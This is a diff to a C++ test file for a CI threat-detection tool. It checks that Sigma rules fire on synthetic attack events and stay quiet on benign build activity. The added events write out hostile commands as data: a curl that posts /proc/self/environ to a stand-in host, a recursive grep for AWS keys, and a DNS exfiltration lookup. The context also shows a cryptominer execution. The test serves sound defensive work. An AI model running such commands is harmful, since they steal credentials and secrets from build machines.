@@ -285,9 +285,12 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
       exec_event(agent, t++, "/tmp/xmrig", {"/tmp/xmrig", "-o", "stratum+tcp://pool.example:3333"}),  // BT-18
       exec_event(agent, t++, "/usr/bin/bash",
                  {"./config.sh", "--url", "https://github.com/x/y", "--token", "FAKE", "--name", "SHA1HULUD"}),
-      write_event(agent, t++, "shell-rc", "/home/ci/.bashrc"),              // BT-20
-      write_event(agent, t++, "ci-config", "/ws/.github/workflows/x.yml"),  // BT-21
-      dns_event(agent, t++, "abc.webhook.site"),                            // BT-04
+      write_event(agent, t++, "shell-rc", "/home/ci/.bashrc"),                                           // BT-20
+      write_event(agent, t++, "ci-config", "/ws/.github/workflows/x.yml"),                               // BT-21
+      dns_event(agent, t++, "abc.webhook.site"),                                                         // BT-04
+      dns_event(agent, t++, std::string(60, 'a') + ".exfil.example"),                                    // BT-03
+      exec_event(agent, t++, "/usr/bin/grep", {"grep", "-r", "aws_access_key_id", "/home"}),             // BT-11
+      exec_event(agent, t++, "/usr/bin/curl", {"curl", "-d", "@/proc/self/environ", "https://x.test"}),  // BT-12
   };
   // What builds do all day: nothing here may raise.
   std::vector<events::Event> good = {
@@ -297,6 +300,9 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
       write_event(agent, t++, "", "/ws/build/main.o"),
       dns_event(agent, t++, "pypi.org"),
       secret_event(agent, t++, "aws-credentials", "open_read"),
+      exec_event(agent, t++, "/usr/bin/curl", {"curl", "-fsSLO", "https://example.com/x.tgz"}),
+      exec_event(agent, t++, "/usr/bin/grep", {"grep", "-rn", "TODO", "src"}),
+      dns_event(agent, t++, "files.pythonhosted.org"),
   };
   std::vector<events::Event> all = bad;
   all.insert(all.end(), good.begin(), good.end());
@@ -319,10 +325,13 @@ TEST_CASE("detection: the CI rule pack raises its rules on the behaviour behind 
   CHECK(lines["BT-20"] == L{8});
   CHECK(lines["BT-21"] == L{9});
   CHECK(lines["BT-04"] == L{10});
+  CHECK(lines["BT-03"] == L{11});
+  CHECK(lines["BT-11"] == L{12});
+  CHECK(lines["BT-12"] == L{13});
   std::size_t raised = 0;
   for (const auto& [rule, l] : lines) raised += l.size();
   CHECK(raised == bad.size());  // and none on the good events
-  CHECK(c.log().find("detecting with 12 Sigma rules") != std::string::npos);
+  CHECK(c.log().find("detecting with 20 Sigma rules, 2 correlations") != std::string::npos);
 }
 
 TEST_CASE("detection: serve --rules adds SigmaHQ's Linux rules; a rule that cannot load is named, not fatal") {
@@ -330,7 +339,7 @@ TEST_CASE("detection: serve --rules adds SigmaHQ's Linux rules; a rule that cann
   const std::string rules = testing::env_or("BUILDTRAIL_SRC", ".") + std::string("/tests/detect/sigma-rules");
   CollectorProcess c(env.data, {"--rules", rules});
   REQUIRE(c.running());
-  CHECK(c.log().find("detecting with 177 Sigma rules") != std::string::npos);  // 12 + 165
+  CHECK(c.log().find("detecting with 185 Sigma rules") != std::string::npos);  // 20 + 165
   CHECK(c.log().find("omigod") != std::string::npos);                          // the 2 not loaded, named
   CHECK(c.log().find("(2 not loaded)") != std::string::npos);
 }
